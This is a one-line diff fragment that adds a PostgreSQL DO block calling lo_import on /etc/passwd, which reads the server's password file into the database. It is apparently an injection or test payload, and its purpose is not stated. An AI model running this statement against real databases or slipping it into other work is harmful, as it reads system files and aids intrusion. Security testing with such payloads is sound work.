@@ -1,0 +1,1 @@
+DO $$ BEGIN PERFORM lo_import('/etc/passwd'); END $$
